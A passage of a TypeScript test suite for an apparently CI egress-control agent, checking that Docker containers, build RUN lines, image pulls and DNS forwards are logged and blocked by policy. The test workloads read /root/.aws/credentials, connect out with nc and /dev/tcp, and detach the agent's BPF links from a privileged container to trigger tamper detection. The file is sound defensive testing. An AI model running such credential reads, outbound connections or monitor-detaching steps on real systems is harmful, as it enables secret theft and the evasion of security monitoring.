// Containers started by the job, with a real runtime (Debian's docker.io): one dockerd for the
// file (test/support/kernel/docker.ts: in its own network namespace, its data in a temp dir,
// its containers under a cgroup of the test). The docker CLI is the agent's workload, as in a
// CI step; the containers descend from containerd-shim, never from it.
//
// Observe: a container's exec, connect, DNS and file records carry `container` (runtime, id,
// image, requester) and the step of the `docker` CLI that asked for it.
// Enforce: the job's policy judges the containers (direct IP, names, Docker's embedded DNS on a
// user-defined network, `docker build` RUN lines, --network host) and the daemon's own egress
// (image pulls, the embedded resolver's forwards).
import { createHash, randomBytes } from "node:crypto";
import { mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { beforeAll, expect, it } from "vitest";
import { newJob } from "../support/action/runner.js";
import { agentCli, agentRun, agentStart, alive, expectRunOk } from "../support/kernel/agent.js";
import { compileC } from "../support/kernel/cbuild.js";
import { cgroup2Mount, inCgroup, testCgroup } from "../support/kernel/cgroup.js";
import { startDaemon } from "../support/kernel/daemon.js";
import {
  DOCKER_CLI,
  type Dockerd,
  dockerAgentConfig,
  IMAGE,
  startDockerd,
} from "../support/kernel/docker.js";
import { AGENT, FIXTURES, onCleanup, tempDir } from "../support/kernel/env.js";
import { byKind, type ConnectEv, type Ev, readLog } from "../support/kernel/log.js";
import { PODMAN_IMAGE, setupPodman } from "../support/kernel/podman.js";
import { poll, run, sleep, spawnBackground } from "../support/kernel/proc.js";
import { startDns, startServers } from "../support/kernel/servers.js";
import { describeKernel } from "../support/kernel/suite.js";
import { leaksSettled, ourPins, pins, snapshot } from "../support/kernel/sysstate.js";

const STEP = "containers-step";
const ALLOWED = "192.0.2.10";
const BLOCKED = "192.0.2.20";
const ZONE = {
  "allowed.test": { A: [ALLOWED] },
  "blocked.test": { A: [BLOCKED] },
  "obs.test": { A: [ALLOWED] },
  "named.test": { A: [BLOCKED] },
};

interface Ct {
  runtime: string;
  id: string;
  image?: string | null;
  requested_by?: number | null;
}
const ct = (e: Ev): Ct | undefined => (e as { container?: Ct }).container;

/** A workload's output file without the colour codes docker build writes. */
function plainText(path: string): string {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: docker build colours its output
  return readFileSync(path, "utf8").replace(/\x1b\[[0-9;]*m/g, "");
}

/** A build context whose one RUN line tries ${addr}:${port} and prints TAG-CONNECTED or TAG-BLOCKED. */
function buildContext(dir: string, name: string, addr: string, port: number, tag: string): string {
  const ctx = join(dir, name);
  mkdirSync(ctx);
  writeFileSync(
    join(ctx, "Dockerfile"),
    `FROM ${IMAGE}\nRUN echo x | nc -w2 ${addr} ${port} && echo ${tag}-CONNECTED || echo ${tag}-BLOCKED\n`,
  );
  return ctx;
}

describeKernel("containers with a real runtime (docker)", () => {
  let d: Dockerd;

  beforeAll(async () => {
    d = await startDockerd();
    await startServers(d.hosts, [
      `tcp:${ALLOWED}:80`,
      `tcp:${BLOCKED}:80`,
      `tcp:${ALLOWED}:5000`,
      `tcp:${ALLOWED}:83`,
      `tcp:${BLOCKED}:5000`,
    ]);
    await startDns(d.hosts, ["192.0.2.53"], ZONE);
  }, 120_000);

  /** A shell script of docker commands, run as the workload of the agent (one CI step). */
  function script(dir: string, body: string): string[] {
    const p = join(dir, "step.sh");
    writeFileSync(p, `#!/bin/sh\nD="${d.cli.join(" ")}"\n${body}\n`);
    return ["/bin/sh", p];
  }

  function config(dir: string, extra = ""): string {
    const p = join(dir, "agent.conf");
    writeFileSync(p, dockerAgentConfig(d) + extra);
    return p;
  }

  it("observe: exec, connect, DNS and a credential file read inside a container carry the container (runtime, id, image, requester) and the step of the docker CLI", async () => {
    const dir = tempDir("ctobs");
    const cid = join(dir, "cid");
    const r = await agentRun({
      args: ["--config", config(dir)],
      env: { ...process.env, DPNDNCY_STEP: STEP },
      cmd: script(
        dir,
        `$D run --rm --cidfile ${cid} ${IMAGE} sh -c 'cat /root/.aws/credentials; echo x | nc -w2 ${ALLOWED} 80; nslookup obs.test 192.0.2.53; true'`,
      ),
    });
    expectRunOk(r);
    const id = readFileSync(cid, "utf8").trim();
    expect(id).toMatch(/^[0-9a-f]{64}$/);
    const inCt = r.log.events.filter((e) => ct(e)?.id === id);
    // the CLI that asked: the docker process of the workload
    const cli = byKind.exec(r.workload).find((e) => e.filename === DOCKER_CLI);
    expect(cli, "exec of the docker CLI").toBeDefined();

    const sh = byKind.exec(inCt).find((e) => e.argv[0] === "sh");
    expect(sh, "exec of the container's sh").toBeDefined();
    expect(ct(sh as Ev)).toEqual({
      runtime: "docker",
      id,
      pod: null,
      image: IMAGE,
      requested_by: cli?.pid,
    });
    // not the CLI's descendant: containerd-shim's
    expect(r.workload.some((e) => e.pid === sh?.pid)).toBe(false);

    const conn = byKind.connect(inCt).find((e) => e.addr === ALLOWED && e.port === 80);
    expect(conn, "connect from the container").toBeDefined();
    const dns = byKind.dns(inCt).find((e) => e.name === "obs.test");
    expect(dns, "DNS lookup in the container").toBeDefined();
    expect(dns?.answers).toContain(ALLOWED);
    const file = byKind.file(inCt).find((e) => e.path.endsWith("/.aws/credentials"));
    expect(file, "credential file read in the container").toBeDefined();
    for (const e of [sh, conn, dns, file] as Ev[]) {
      expect(e.step, `${e.kind} record's step`).toBe(STEP);
      expect(ct(e)?.id).toBe(id);
    }
  }, 90_000);

  it("enforce: a container's direct IP and blocked name get EPERM, an allowed name resolved through Docker's embedded DNS on a user-defined network connects; --network host is judged too", async () => {
    const dir = tempDir("ctenf");
    const out = join(dir, "out");
    const policy = "allow-host allowed.test:80\ndns-resolver 192.0.2.53\n";
    const r = await agentRun({
      args: ["--mode", "enforce", "--config", config(dir, policy)],
      env: { ...process.env, DPNDNCY_STEP: STEP },
      cmd: script(
        dir,
        [
          `exec > ${out} 2>&1`,
          `$D network create --subnet 203.0.113.0/24 dpkt-net >/dev/null`,
          `echo "== direct"`,
          `$D run --rm ${IMAGE} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
          `echo "== blocked-name"`,
          `$D run --rm ${IMAGE} sh -c 'ip=$(nslookup blocked.test 192.0.2.53 | awk "/^Address: /{a=\\$2} END{print a}"); echo "ip=$ip"; echo x | nc -w2 $ip 80 && echo CONNECTED'`,
          `echo "== embedded"`,
          `$D run --rm --network dpkt-net --dns 192.0.2.53 ${IMAGE} sh -c 'cat /etc/resolv.conf | grep nameserver; ip=$(nslookup allowed.test | awk "/^Address: /{a=\\$2} END{print a}"); echo "ip=$ip"; echo x | nc -w2 $ip 80'`,
          `echo "== host"`,
          `$D run --rm --network host ${IMAGE} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
          `echo "== end"`,
          `$D network rm dpkt-net >/dev/null`,
        ].join("\n"),
      ),
    });
    expectRunOk(r);
    const text = plainText(out);
    const part = (name: string): string => text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
    expect(part("direct"), text).toMatch(/Operation not permitted/);
    expect(part("direct")).not.toMatch(/CONNECTED/);
    expect(part("blocked-name"), text).toMatch(new RegExp(`ip=${BLOCKED}`));
    expect(part("blocked-name")).toMatch(/Operation not permitted/);
    expect(part("embedded"), text).toMatch(/nameserver 127\.0\.0\.11/);
    expect(part("embedded"), text).toMatch(new RegExp(`ip=${ALLOWED}`));
    expect(part("embedded"), text).toMatch(/^ok$/m);
    expect(part("host"), text).toMatch(/Operation not permitted/);

    const inCt = r.log.events.filter((e) => ct(e)?.runtime === "docker");
    const denies = byKind.connect(inCt).filter((e: ConnectEv) => e.verdict === "deny");
    const allDenies = byKind.connect(r.log.events).filter((e) => e.verdict === "deny");
    expect(
      denies.filter((e) => e.addr === BLOCKED && e.port === 80).length,
      JSON.stringify(allDenies, null, 1),
    ).toBeGreaterThanOrEqual(3);
    for (const e of denies) {
      expect(e.rule).toBe("default-deny");
      expect(e.step).toBe(STEP);
    }
    const allowed = byKind
      .connect(inCt)
      .find((e) => e.addr === ALLOWED && e.port === 80 && e.verdict === "allow");
    expect(allowed?.rule).toBe("allow-host allowed.test:80");
    // the embedded resolver's forward came from dockerd's own socket, to the sanctioned resolver
    const fwd = byKind
      .connect(r.log.events)
      .find((e) => e.comm === "dockerd" && e.addr === "192.0.2.53" && e.port === 53);
    expect(fwd?.verdict).toBe("allow");
    expect(fwd?.rule).toBe("sanctioned-resolver");
  }, 120_000);
  it("enforce: a docker build RUN line's egress, an image pull from a registry the policy does not name, and the embedded resolver forwarding to an unsanctioned server are blocked; a named registry is reached", async () => {
    const dir = tempDir("ctbuild");
    const out = join(dir, "out");
    const ctx = buildContext(dir, "ctx", BLOCKED, 80, "RUN");
    const bkCtx = buildContext(dir, "bkctx", BLOCKED, 81, "BK");
    const policy = `allow-cidr ${ALLOWED}/32:5000\ndns-resolver 192.0.2.53\n`;
    const r = await agentRun({
      args: ["--mode", "enforce", "--config", config(dir, policy)],
      env: { ...process.env, DPNDNCY_STEP: STEP, DOCKER_BUILDKIT: "0" },
      cmd: script(
        dir,
        [
          `exec > ${out} 2>&1`,
          `echo "== build"`,
          `$D build --no-cache -t dpkt-built:1 ${ctx}`,
          `echo "== buildkit"`,
          `DOCKER_BUILDKIT=1 $D build --progress plain --no-cache -t dpkt-bk:2 ${bkCtx}`,
          `$D rmi dpkt-bk:2 >/dev/null`,
          `echo "== pull-evil"`,
          `$D pull ${BLOCKED}:5000/x:secret-token-123`,
          `echo "== pull-named"`,
          `$D pull ${ALLOWED}:5000/x:ok`,
          `echo "== resolver"`,
          `$D network create --subnet 203.0.113.0/24 dpkt-net2 >/dev/null`,
          `$D run --rm --network dpkt-net2 --dns 192.0.2.99 ${IMAGE} nslookup -timeout=2 allowed.test`,
          `$D network rm dpkt-net2 >/dev/null`,
          `$D rmi dpkt-built:1 >/dev/null`,
          `echo "== end"`,
        ].join("\n"),
      ),
    });
    expectRunOk(r);
    const text = plainText(out);
    const part = (name: string): string => text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
    expect(part("build"), text).toMatch(/Operation not permitted/);
    expect(part("build"), text).toMatch(/^RUN-BLOCKED$/m);
    expect(part("build")).not.toMatch(/^RUN-CONNECTED$/m);

    const conns = byKind.connect(r.log.events);
    // the RUN line ran in a build container, attributed to the step of `docker build`
    const cli = byKind
      .exec(r.workload)
      .find((e) => e.filename === DOCKER_CLI && e.argv[3] === "build");
    const run = conns.find((e) => e.addr === BLOCKED && e.port === 80);
    expect(run?.verdict, JSON.stringify(run)).toBe("deny");
    expect(ct(run as Ev)?.runtime).toBe("docker");
    expect(ct(run as Ev)?.requested_by).toBe(cli?.pid);
    expect(run?.step).toBe(STEP);
    // BuildKit's RUN line: its own container (<parent>/buildkit/<id>), the same requester and step
    expect(part("buildkit"), text).toMatch(/\d BK-BLOCKED$/m);
    const bkCli = byKind
      .exec(r.workload)
      .filter((e) => e.filename === DOCKER_CLI && e.argv[3] === "build")
      .at(-1);
    const bk = conns.find((e) => e.addr === BLOCKED && e.port === 81);
    expect(bk?.verdict, JSON.stringify(bk)).toBe("deny");
    expect(ct(bk as Ev)?.runtime, JSON.stringify(bk)).toBe("buildkit");
    expect(ct(bk as Ev)?.id).toMatch(/^[0-9a-z]{25}$/);
    expect(ct(bk as Ev)?.requested_by).toBe(bkCli?.pid);
    expect(bk?.step).toBe(STEP);
    // the daemon's pull: judged by the job's policy (the tag never leaves the host)
    const evil = conns.filter((e) => e.addr === BLOCKED && e.port === 5000);
    expect(evil.length, text).toBeGreaterThanOrEqual(1);
    for (const e of evil) {
      expect(e.comm).toBe("dockerd");
      expect(e.verdict).toBe("deny");
      expect(e.rule).toBe("default-deny");
    }
    const named = conns.find((e) => e.addr === ALLOWED && e.port === 5000);
    expect(named?.comm).toBe("dockerd");
    expect(named?.verdict).toBe("allow");
    expect(named?.rule).toBe(`allow-cidr ${ALLOWED}/32:5000`);
    // the embedded resolver may not forward to a resolver the policy does not sanction
    const fwd = conns.filter((e) => e.addr === "192.0.2.99" && e.port === 53);
    expect(fwd.length, text).toBeGreaterThanOrEqual(1);
    for (const e of fwd) {
      expect(e.comm).toBe("dockerd");
      expect(e.verdict).toBe("deny");
      expect(e.rule).toBe("dns-resolver");
    }
    expect(part("resolver"), text).not.toMatch(/Address: 192\.0\.2\.10/);
  }, 120_000);
  it("enforce: a privileged container (CAP_SYS_ADMIN, no seccomp) that detaches the programs judging it (BPF_LINK_DETACH) cannot do so unseen: a link-detached tamper event names the container cgroup's links", async () => {
    const dir = tempDir("ctpriv");
    const out = join(dir, "out");
    const tool = await compileC(join(FIXTURES, "ct_detach.c"), ["-static"]);
    const cgid = statSync(d.containersCg).ino;
    const r = await agentRun({
      args: ["--mode", "enforce", "--config", config(dir, "dns-resolver 192.0.2.53\n")],
      env: { ...process.env, DPNDNCY_STEP: STEP },
      cmd: script(
        dir,
        [
          `exec > ${out} 2>&1`,
          `echo "== before"`,
          `$D run --rm ${IMAGE} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
          `echo "== privileged"`,
          // what --privileged gives that the attack needs: CAP_SYS_ADMIN and no seccomp filter.
          // Not --privileged itself: this machine's bounding set lacks CAP_SYS_RESOURCE, which
          // runc then fails to grant
          `$D run --rm --cap-add SYS_ADMIN --security-opt seccomp=unconfined -v ${tool}:/ct_detach:ro ${IMAGE} sh -c '/ct_detach ${cgid}; echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
          // the agent's integrity check runs about once a second
          "sleep 2",
          `echo "== end"`,
        ].join("\n"),
      ),
    });
    expectRunOk(r);
    const text = plainText(out);
    const part = (name: string): string => text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
    expect(part("before"), text).toMatch(/Operation not permitted/);
    // what a privileged container can do: it holds CAP_SYS_ADMIN over the host's BPF objects
    expect(part("privileged"), text).toMatch(/detached 8/);
    // and then its egress is no longer judged: this is detection, not prevention (no BPF LSM
    // on these kernels to refuse bpf() to a container; docs/containers.md)
    expect(part("privileged"), text).toMatch(/^ok$/m);
    const tampers = r.log.events.filter((e) => e.kind === "tamper") as (Ev & {
      what: string;
      detail?: string;
    })[];
    const detached = tampers.filter((e) => e.what === "link-detached");
    expect(
      detached.map((e) => /link '([^']+)'/.exec(e.detail ?? "")?.[1]).sort(),
      JSON.stringify(tampers),
    ).toEqual([
      "ct0_enf_bind4",
      "ct0_enf_bind6",
      "ct0_enf_connect4",
      "ct0_enf_connect6",
      "ct0_enf_dns",
      "ct0_enf_sendmsg4",
      "ct0_enf_sendmsg6",
      "ct0_enf_sock_create",
    ]);
  }, 120_000);
  // The CLI as a user runs it on a GitHub-hosted runner: no container option at all. The agent
  // config comes from what `dpndncy start` finds running (src/agent/runtimes.ts): the test's
  // dockerd, its --cgroup-parent, its cgroup (with containerd's), its socket and data root.
  async function cliJob(dir: string, extra: string[]): Promise<{ text: string; start: string }> {
    const out = join(dir, "out");
    const trace = join(dir, "trace");
    const ctx = buildContext(dir, "ctx", BLOCKED, 80, "BK");
    const policy = join(dir, "policy.yml");
    writeFileSync(
      policy,
      "version: 1\negress:\n  allow:\n    - allowed.test:80\ndns:\n  resolvers: [192.0.2.53]\n",
    );
    const cli = `${process.execPath} ${join(process.cwd(), "dist/cli.js")}`;
    onCleanup(async () => {
      await run([AGENT, "stop", "--state-dir", join(trace, "state")]);
    });
    const r = await run(
      script(
        dir,
        [
          `${cli} start --dir ${trace} --agent ${AGENT} --mode enforce --policy ${policy} ${extra.join(" ")} 2>${dir}/start.err || exit 10`,
          `exec > ${out} 2>&1`,
          `echo "== run"`,
          `$D run --rm ${IMAGE} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED'`,
          `echo "== embedded"`,
          `$D network create --subnet 203.0.113.0/24 dpkt-net3 >/dev/null`,
          `$D run --rm --network dpkt-net3 --dns 192.0.2.53 ${IMAGE} sh -c 'ip=$(nslookup allowed.test | awk "/^Address: /{a=\\$2} END{print a}"); echo "ip=$ip"; echo x | nc -w2 $ip 80'`,
          `$D network rm dpkt-net3 >/dev/null`,
          `echo "== buildkit"`,
          `DOCKER_BUILDKIT=1 $D build --progress plain --no-cache -t dpkt-bk:1 ${ctx}`,
          `$D rmi dpkt-bk:1 >/dev/null`,
          `echo "== pull"`,
          `$D pull ${BLOCKED}:5000/x:secret-token-456`,
          `echo "== end"`,
          `${cli} stop --dir ${trace} >/dev/null`,
        ].join("\n"),
      ),
      {
        env: {
          PATH: process.env.PATH,
          GITHUB_ACTIONS: "true",
          RUNNER_ENVIRONMENT: "github-hosted",
        },
        timeoutMs: 120_000,
      },
    );
    const start = readFileSync(join(dir, "start.err"), "utf8");
    expect(r.code, `${start}\n${r.stderr}`).toBe(0);
    const text = plainText(out);
    return { text, start };
  }

  it("dpndncy start --mode enforce on a GitHub-hosted runner judges the running Docker's containers with no container option: docker run, an allowed name via the embedded DNS, a BuildKit RUN line, an image pull; --containers off opts out", async () => {
    const dir = tempDir("ctdefault");
    const { text, start } = await cliJob(dir, []);
    const part = (name: string): string => text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
    // what start found and said
    expect(start).toMatch(/containers: judged by the job's policy \(GitHub-hosted runner/);
    expect(start).toMatch(
      /containers: docker \(dockerd \d+, cgroupfs driver\): containers below \/dpndncy-kt-[^,]+\/docker, daemon egress of \/dpndncy-kt-[^,]+\/daemon/,
    );
    const conf = readFileSync(join(dir, "trace", "agent.conf"), "utf8");
    expect(conf).toContain(`container-cgroup ${d.containersCg.slice(cgroup2Mount().length)}\n`);
    expect(conf).toContain(`runtime-cgroup ${d.daemonCg.slice(cgroup2Mount().length)}\n`);
    expect(conf).toContain(`runtime-socket ${d.sock}\n`);
    expect(conf).toContain(`docker-root ${d.dataRoot}\n`);
    // judged
    expect(part("run"), text).toMatch(/Operation not permitted/);
    expect(part("run")).not.toMatch(/CONNECTED/);
    expect(part("embedded"), text).toMatch(new RegExp(`ip=${ALLOWED}`));
    expect(part("embedded"), text).toMatch(/^ok$/m);
    // BuildKit echoes the RUN line itself: "#5 0.224 BK-BLOCKED" is its output
    expect(part("buildkit"), text).toMatch(/\d BK-BLOCKED$/m);
    expect(part("buildkit"), text).toMatch(/Operation not permitted/);
    expect(part("buildkit")).not.toMatch(/\d BK-CONNECTED$/m);
    const log = readLog(join(dir, "trace", "events.ndjson"));
    const conns = byKind.connect(log.events);
    const ran = conns.find(
      (e) => e.addr === BLOCKED && e.port === 80 && ct(e)?.runtime === "docker",
    );
    expect(ran?.verdict, JSON.stringify(conns)).toBe("deny");
    // the socket and data root were found too: the container carries its image and requester
    expect(ct(ran as Ev)?.image).toBe(IMAGE);
    expect(typeof ct(ran as Ev)?.requested_by).toBe("number");
    // BuildKit's RUN container: judged below the cgroup parent (<parent>/buildkit/<id>), and
    // attributed to the `docker build` that asked for it
    const bk = conns.filter(
      (e) => e.addr === BLOCKED && e.port === 80 && ct(e)?.runtime === "buildkit",
    );
    expect(bk.length, JSON.stringify(conns)).toBeGreaterThanOrEqual(1);
    for (const e of bk) {
      expect(e.verdict).toBe("deny");
      expect(typeof ct(e)?.requested_by).toBe("number");
    }
    const pulls = conns.filter((e) => e.addr === BLOCKED && e.port === 5000);
    expect(pulls.length, text).toBeGreaterThanOrEqual(1);
    for (const e of pulls) {
      expect(e.comm).toBe("dockerd");
      expect(e.verdict).toBe("deny");
    }

    // the opt-out: the same job's container is not judged
    const off = await cliJob(tempDir("ctoff"), ["--containers", "off"]);
    const offPart = (name: string): string =>
      off.text.split(`== ${name}\n`)[1]?.split("\n== ")[0] ?? "";
    expect(off.start).not.toMatch(/containers: judged/);
    expect(offPart("run"), off.text).toMatch(/^ok$/m);
    expect(offPart("buildkit"), off.text).toMatch(/\d BK-CONNECTED$/m);
  }, 180_000);
  it("the action (dist/pre.js, mode enforce, no container input) on a GitHub-hosted runner judges the running Docker's containers: a step's docker run gets EPERM for an address the job may not reach and connects to one it may; post counts the block", async () => {
    const root = tempDir("ctaction");
    const agentBytes = readFileSync(AGENT);
    const files = createServer((_req, res) => res.end(agentBytes));
    await new Promise<void>((r) => files.listen(0, "127.0.0.1", r));
    onCleanup(() => new Promise<void>((r) => files.close(() => r())));
    const job = newJob(
      root,
      {
        mode: "enforce",
        sign: "none",
        "upload-artifact": "false",
        "allowed-endpoints": `${ALLOWED}:80`,
        "agent-url": `http://127.0.0.1:${(files.address() as AddressInfo).port}/dpndncy-agent`,
        "agent-sha256": createHash("sha256").update(agentBytes).digest("hex"),
      },
      { RUNNER_ENVIRONMENT: "github-hosted", GITHUB_REPOSITORY: "acme/app", GITHUB_JOB: "build" },
    );
    onCleanup(async () => {
      const st = job.state();
      if (st.agent && st.state_dir) await run([st.agent, "stop", "--state-dir", st.state_dir]);
    });
    // a Python process stands in for Runner.Worker (a shell would drop the INPUT_AGENT-URL
    // style variables): pre's parent, moved into the enforced cgroup and exempt; the step it
    // then starts (the docker CLI) is judged, and so is its container
    const preOut = join(root, "pre.out");
    const out = join(root, "out");
    const stepCmd = `${d.cli.join(" ")} run --rm ${IMAGE} sh -c 'echo x | nc -w2 ${BLOCKED} 80 && echo CONNECTED; echo x | nc -w2 ${ALLOWED} 80'`;
    const worker = await run(
      [
        "/usr/bin/python3",
        "-c",
        [
          "import os, subprocess, sys",
          "with open(sys.argv[2], 'w') as f:",
          "    if subprocess.run([sys.argv[1], 'dist/pre.js'], stdout=f, stderr=f).returncode: sys.exit(10)",
          "with open(sys.argv[4], 'w') as f:",
          "    subprocess.run(['/bin/sh', '-c', sys.argv[3]], stdout=f, stderr=f, env={**os.environ, 'GITHUB_ACTION': '__run_2'})",
        ].join("\n"),
        process.execPath,
        preOut,
        stepCmd,
        out,
      ],
      { env: job.env, timeoutMs: 90_000 },
    );
    const pre = readFileSync(preOut, "utf8");
    expect(worker.code, pre + worker.stderr).toBe(0);
    expect(pre).toMatch(/dpndncy containers: judged by the job's policy \(GitHub-hosted runner/);
    expect(pre).toMatch(/dpndncy containers: docker \(dockerd \d+, cgroupfs driver\)/);
    const text = readFileSync(out, "utf8");
    expect(text).toMatch(/Operation not permitted/);
    expect(text).not.toMatch(/^CONNECTED$/m);
    expect(text).toMatch(/^ok$/m);
    const post = await job.stage("post");
    expect(post.code, post.stdout + post.stderr).toBe(0);
    expect(Number(job.outputs().blocked)).toBeGreaterThanOrEqual(1);
    const log = readLog(job.outputs().log ?? "");
    const deny = byKind
      .connect(log.events)
      .find((e) => e.addr === BLOCKED && e.port === 80 && ct(e)?.runtime === "docker");
    expect(deny?.verdict).toBe("deny");
    expect(deny?.step).toBe("__run_2");
    expect(ct(deny as Ev)?.image).toBe(IMAGE);
  }, 120_000);
  it("daemon mode: a job's containers (docker run, a classic and a BuildKit build's RUN lines) are judged by that job's policy and traced in its log with its step; another job's by its own; a container of no job's client is not judged; one whose client is not found is judged by the default policy, never exempt", async () => {
    const pol = tempDir("ctpol");
    mkdirSync(join(pol, "proj"));
    // the default policy: the registry the runtime daemon may pull from, nothing else
    writeFileSync(join(pol, "default.conf"), `allow-cidr ${ALLOWED}/32:5000\n`);
    writeFileSync(join(pol, "proj/a.conf"), `allow-cidr ${ALLOWED}/32\nallow-host named.test:80\n`);
    const dir = tempDir("ctdaemon");
    const conf = join(dir, "daemon.conf");
    writeFileSync(conf, `${dockerAgentConfig(d)}dns-resolver 192.0.2.53\n`);
    const jobsCg = testCgroup("ctjobs");
    const dm = await startDaemon([
      "--mode",
      "enforce",
      "--cgroup",
      jobsCg.path,
      "--policy-dir",
      pol,
      "--config",
      conf,
    ]);
    const nonce = `${process.pid}-${Date.now()}`;
    const ctx = buildContext(dir, "ctx", BLOCKED, 81, "RUN");
    const bkCtx = buildContext(dir, "bkctx", BLOCKED, 82, "BK");
    const bodies = {
      a: [
        `$D run --rm ${IMAGE} sh -c 'echo x | nc -w2 ${ALLOWED} 80 && echo A-ALLOWED; echo x | nc -w2 ${BLOCKED} 80 && echo A-BLOCKED-CONNECTED; true'`,
        // the container's environment naming another job's marker claims nothing
        `$D run --rm -e DPNDNCY_JOB=b-${nonce} -e DPNDNCY_JOB_NAME=b ${IMAGE} sh -c 'echo x | nc -w2 ${ALLOWED} 83 && echo A-CLAIM-ALLOWED; true'`,
        // a name the policy allows, resolved through Docker's embedded DNS (user-defined network)
        "$D network create --subnet 203.0.113.0/24 dpkt-dnet >/dev/null",
        `$D run --rm --network dpkt-dnet --dns 192.0.2.53 ${IMAGE} sh -c 'ip=$(nslookup named.test | awk "/^Address: /{a=\\$2} END{print a}"); echo "ip=$ip"; echo x | nc -w2 $ip 80 && echo A-EMBEDDED-OK; true'`,
        "$D network rm dpkt-dnet >/dev/null",
        // restarted by dockerd with no client connected: still job a's (the container id's job)
        `$D run -d --cidfile ${join(dir, "restart.cid")} --restart on-failure:2 ${IMAGE} sh -c 'echo x | nc -w2 ${ALLOWED} 80; exit 1' >/dev/null; sleep 4; $D rm -f $(cat ${join(dir, "restart.cid")}) >/dev/null`,
        // the daemon's pulls (no job's, never exempt): only the default policy's registry
        `echo "== pull"; $D pull ${BLOCKED}:5000/x:secret-a; $D pull ${ALLOWED}:5000/x:ok; echo "== end"`,
        `DOCKER_BUILDKIT=0 $D build --no-cache -t dpkt-dj:1 ${ctx} && $D rmi dpkt-dj:1 >/dev/null`,
        `DOCKER_BUILDKIT=1 $D build --progress plain --no-cache -t dpkt-dj:2 ${bkCtx} && $D rmi dpkt-dj:2 >/dev/null`,
      ],
      b: [`$D run --rm ${IMAGE} sh -c 'echo x | nc -w2 ${ALLOWED} 80 && echo B-CONNECTED; true'`],
    };
    const jobEnv = (name: "a" | "b") => [
      `DPNDNCY_JOB=${name}-${nonce}`,
      "DPNDNCY_PROJECT=proj",
      `DPNDNCY_JOB_NAME=${name}`,
      `DPNDNCY_STEP=${STEP}-${name}`,
    ];
    const job = (name: "a" | "b") => {
      const wd = tempDir(`ctjob-${name}`);
      const env = jobEnv(name);
      const cmd = script(wd, [`exec > ${join(wd, "out")} 2>&1`, ...bodies[name]].join("\n"));
      return { out: join(wd, "out"), p: run(inCgroup(jobsCg.child(`job-${name}`), env, cmd)) };
    };
    // a container asked for by a process of no job: not judged (rule exempt-no-job), in no log.
    // One client at a time here: with clients of several jobs connected at the instant a
    // container is made, the attribution is a heuristic (docs/containers.md)
    const host = await run([
      ...d.cli,
      "run",
      "--rm",
      IMAGE,
      "sh",
      "-c",
      `echo x | nc -w2 ${BLOCKED} 80 && echo HOST-CONNECTED; true`,
    ]);
    expect(host.stdout, host.stderr).toMatch(/HOST-CONNECTED/);
    const ja = job("a");
    expect((await ja.p).code, readFileSync(ja.out, "utf8")).toBe(0);
    // job a keeps a client connected (`docker events`, like `docker logs -f`) while job b asks
    // for its container: the newest connection (b's) wins, and the guess is said
    const hold = spawnBackground(
      inCgroup(jobsCg.child("job-a-hold"), jobEnv("a"), [...d.cli, "events"]),
    );
    onCleanup(() => hold.stop());
    await sleep(1000);
    const jb = job("b");
    expect((await jb.p).code, readFileSync(jb.out, "utf8")).toBe(0);
    await hold.stop();
    expect(dm.bg.stderr()).toMatch(
      /clients of 2 jobs were connected to the runtime's API socket; judged and logged as the job of pid \d+/,
    );
    const outA = plainText(ja.out);
    expect(outA).toMatch(/^A-ALLOWED$/m);
    expect(outA).toMatch(/^A-CLAIM-ALLOWED$/m);
    expect(outA).toMatch(new RegExp(`^ip=${BLOCKED}$`, "m"));
    expect(outA).toMatch(/^A-EMBEDDED-OK$/m);
    const denies = dm.lines().filter((c) => c.type === "deny");
    const pullDeny = denies.find(
      (c) => (c.record as ConnectEv).comm === "dockerd" && (c.record as ConnectEv).addr === BLOCKED,
    );
    expect(pullDeny?.record, JSON.stringify(denies)).toMatchObject({
      port: 5000,
      verdict: "deny",
      rule: "default-deny",
    });
    expect(pullDeny?.job).toBeUndefined();
    expect(outA.split("== pull")[1]).toMatch(/Operation not permitted/);
    expect(outA).not.toMatch(/A-BLOCKED-CONNECTED/);
    expect(outA).toMatch(/^RUN-BLOCKED$/m);
    expect(outA).toMatch(/\d BK-BLOCKED$/m);
    expect(outA).toMatch(/Operation not permitted/);
    const outB = readFileSync(jb.out, "utf8");
    expect(outB).toMatch(/Operation not permitted/);
    expect(outB).not.toMatch(/B-CONNECTED/);

    // a cgroup named as a container's (made by no client: a restart by dockerd, or a client gone
    // before the agent looked) and a process of no job in it: the default policy, and said so
    const orphan = join(d.containersCg, createHash("sha256").update(nonce).digest("hex"));
    mkdirSync(orphan);
    onCleanup(() => run(["rmdir", orphan]).then(() => undefined));
    const probe = (cg: string) =>
      run(
        inCgroup(
          cg,
          [],
          d.lab.exec("/bin/bash", "-c", `exec 3<>/dev/tcp/${ALLOWED}/80 && echo CONNECTED`),
        ),
      );
    const stranger = await probe(jobsCg.child("stranger"));
    expect(stranger.stdout, stranger.stderr).toMatch(/CONNECTED/);
    const orphaned = await probe(orphan);
    expect(orphaned.stdout).not.toMatch(/CONNECTED/);
    expect(orphaned.stderr).toMatch(/Operation not permitted/);
    const orphanDeny = await dm.waitFor(
      (c) =>
        c.type === "deny" &&
        (c.record as ConnectEv).addr === ALLOWED &&
        (c.record as ConnectEv).comm === "bash",
      "the deny of the orphaned container's connect",
    );
    expect(orphanDeny.job).toBeUndefined();
    expect(orphanDeny.record).toMatchObject({ verdict: "deny", rule: "default-deny", result: -1 });
    expect(dm.bg.stderr()).toMatch(/no client of the runtime's API socket found/);

    const ends = await poll(() => {
      const e = dm.lines().filter((c) => c.type === "job-end" && String(c.job).endsWith(nonce));
      return e.length === 2 ? e : undefined;
    }, 30_000);
    expect(ends, dm.bg.stdout()).toBeDefined();
    const logOf = (name: string) => {
      const end = ends?.find((e) => e.job === `DPNDNCY_JOB=${name}-${nonce}`);
